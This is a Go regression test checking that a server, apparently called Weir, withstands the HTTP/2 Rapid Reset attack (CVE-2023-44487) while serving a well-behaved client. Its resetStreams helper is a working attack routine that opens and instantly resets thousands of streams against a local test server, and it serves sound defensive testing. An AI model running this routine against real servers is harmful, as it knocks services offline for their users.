package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"io"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// TestRapidResetDoesNotStarveOthers: a client that opens HTTP/2 streams to
// a slow backend and resets each at once (CVE-2023-44487) must not stop a
// well-behaved client from being served. Weir's handlers return as soon as
// their stream is reset, and the server bounds concurrent handlers per
// connection (128) and drops connections that keep resetting.
func TestRapidResetDoesNotStarveOthers(t *testing.T) {
	certA, keyA, leafA := testCert(t, "a", "a.example.com")
	w := startTLSWorld(t, secretYAML("cert-a", certA, keyA))
	pool := x509.NewCertPool()
	pool.AddCert(leafA)

	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	var sent int
	wg.Add(1)
	go func() {
		defer wg.Done()
		for conns := 0; conns < 20 && sent < 20000 && ctx.Err() == nil; conns++ {
			n := resetStreams(ctx, w.https, pool, 20000-sent)
			sent += n
			if n == 0 {
				return
			}
		}
	}()
	victim := w.client(pool, true)
	ok := 0
	for i := 0; i < 50; i++ {
		resp, err := victim.Get("https://a.example.com/")
		require.NoError(t, err, "request %d of the well-behaved client", i)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == 200 {
			ok++
		}
	}
	cancel()
	wg.Wait()
	assert.Equal(t, 50, ok)
	t.Logf("attacker sent %d reset streams", sent)
	assert.Greater(t, sent, 100, "the attack really ran")
}

// resetStreams opens streams and resets each at once on one connection until
// max, ctx's end, or the server closing the connection.
func resetStreams(ctx context.Context, addr string, pool *x509.CertPool, max int) int {
	d := tls.Dialer{Config: &tls.Config{RootCAs: pool, ServerName: "a.example.com", NextProtos: []string{"h2"}}}
	raw, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return 0
	}
	conn := raw.(*tls.Conn)
	defer conn.Close()
	dl, _ := ctx.Deadline()
	conn.SetDeadline(dl)
	bw := bufio.NewWriter(conn)
	fr := http2.NewFramer(bw, conn)
	bw.WriteString(http2.ClientPreface)
	fr.WriteSettings()
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		for {
			if _, err := fr.ReadFrame(); err != nil {
				return
			}
		}
	}()
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	sent := 0
	for id := uint32(1); sent < max && ctx.Err() == nil; id += 2 {
		select {
		case <-closed:
			return sent
		default:
		}
		hbuf.Reset()
		for _, hf := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: "a.example.com"}, {Name: ":path", Value: "/slow"}} {
			enc.WriteField(hf)
		}
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
		sent++
		if sent%32 == 0 && bw.Flush() != nil {
			break
		}
	}
	bw.Flush()
	conn.CloseWrite()
	<-closed
	return sent
}
